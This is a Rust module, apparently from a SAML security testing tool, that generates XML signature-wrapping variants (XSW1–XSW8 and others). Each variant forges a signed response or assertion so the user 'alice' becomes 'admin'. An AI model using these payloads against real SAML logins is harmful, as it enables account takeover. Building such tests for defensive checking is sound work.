//! Signature wrapping: a good signature, and somebody else beside, around or inside of what it is
//! over. The numbers are those of SAML Raider.

use super::Genuine;

/// Each way that there is for what is signed in a response.
pub(super) fn all(genuine: &Genuine) -> Vec<(String, String)> {
    let mut all = Vec::new();
    if let Some(signature) = genuine.response_signature() {
        all.extend(of_response(genuine, signature));
    }
    if let Some(signature) = genuine.assertion_signature() {
        all.extend(of_assertion(genuine, signature));
    }
    all
}

/// The response is signed.
fn of_response(genuine: &Genuine, signature: &str) -> Vec<(String, String)> {
    let bare = genuine.text.replace(signature, "");
    let mut all = Vec::new();
    for id in [Some("_evil"), None] {
        let evil = evil(&bare, id);
        let before_status = |inside: &str| evil.replacen("<samlp:Status>", inside, 1);
        let around = within(signature, &bare);
        let object = within(signature, &format!("<ds:Object>{bare}</ds:Object>"));
        let beside = format!("{bare}{signature}");
        let extended = format!("<samlp:Extensions>{}</samlp:Extensions>", genuine.text);
        for (name, inside) in [
            ("XSW1", format!("{around}<samlp:Status>")),
            ("XSW1 in an object", format!("{object}<samlp:Status>")),
            ("XSW2", format!("{beside}<samlp:Status>")),
            ("in extensions", format!("{extended}<samlp:Status>")),
            (
                "a signature without its response",
                format!("{signature}<samlp:Status>"),
            ),
        ] {
            all.push((format!("{name} {id:?}"), before_status(&inside)));
        }
        let last = evil.replace(
            "</samlp:Response>",
            &format!("{}</samlp:Response>", genuine.text),
        );
        all.push((format!("the response inside {id:?}"), last));
    }
    all
}

/// The assertion is.
fn of_assertion(genuine: &Genuine, signature: &str) -> Vec<(String, String)> {
    let signed = genuine.assertion();
    let bare = signed.replace(signature, "");
    let response = |inside: &str| genuine.around(inside);
    let extended = |extended: &str, rest: &str| {
        let inside = format!("<samlp:Extensions>{extended}</samlp:Extensions><samlp:Status>");
        response(rest).replacen("<samlp:Status>", &inside, 1)
    };
    let mut all = Vec::new();
    for id in [Some("_evil"), None] {
        let evil = evil(&bare, id);
        // where the signature of an assertion is
        let with =
            |inside: &str| evil.replacen("<saml:Subject>", &format!("{inside}<saml:Subject>"), 1);
        let last =
            |inside: &str| evil.replace("</saml:Assertion>", &format!("{inside}</saml:Assertion>"));
        let object = format!("<ds:Object>{bare}</ds:Object>");
        let value = format!(
            "<saml:AttributeStatement><saml:Attribute Name=\"x\"><saml:AttributeValue>{signed}\
             </saml:AttributeValue></saml:Attribute>"
        );
        let confirmed = format!("/>{signed}</saml:SubjectConfirmation>");
        let advised = format!("</saml:Conditions><saml:Advice>{signed}</saml:Advice>");
        for (name, text) in [
            ("XSW3", response(&format!("{evil}{signed}"))),
            ("XSW3 after", response(&format!("{signed}{evil}"))),
            ("XSW4", response(&last(signed))),
            ("XSW4 first", response(&with(signed))),
            ("XSW5", response(&format!("{}{bare}", with(signature)))),
            (
                "XSW5 before",
                response(&format!("{bare}{}", with(signature))),
            ),
            ("XSW6", response(&with(&within(signature, &bare)))),
            ("XSW7", extended(&evil, signed)),
            ("XSW7 inverse", extended(signed, &evil)),
            ("XSW8", response(&with(&within(signature, &object)))),
            (
                "XSW8 beside",
                response(&format!("{evil}{}", within(signature, &object))),
            ),
            (
                "in an attribute",
                response(&evil.replacen("<saml:AttributeStatement>", &value, 1)),
            ),
            (
                "in a confirmation",
                response(&evil.replacen("/></saml:SubjectConfirmation>", &confirmed, 1)),
            ),
            (
                "in the advice",
                response(&evil.replacen("</saml:Conditions>", &advised, 1)),
            ),
            (
                "in an unknown element",
                response(&format!("{evil}<x>{signed}</x>")),
            ),
            (
                "around, unknown",
                response(&format!("<x>{evil}</x>{signed}")),
            ),
        ] {
            all.push((format!("{name} {id:?}"), text));
        }
    }
    all
}

/// Something inside of a signature, at its end.
fn within(signature: &str, inside: &str) -> String {
    signature.replace("</ds:Signature>", &format!("{inside}</ds:Signature>"))
}

/// The same about somebody else, with another ID or the same one.
pub(super) fn evil(part: &str, id: Option<&str>) -> String {
    let named = part.find("<saml:NameID").unwrap();
    let begin = named + part[named..].find('>').unwrap() + 1;
    let end = begin + part[begin..].find('<').unwrap();
    let evil = format!("{}admin{}", &part[..begin], &part[end..]);
    let evil = evil
        .replace(">alice<", ">admin<")
        .replace("alice@example.org", "admin@example.org");
    let Some(id) = id else {
        return evil;
    };
    let (before, rest) = evil.split_once(" ID=\"").unwrap();
    let (_, after) = rest.split_once('"').unwrap();
    format!("{before} ID=\"{id}\"{after}")
}
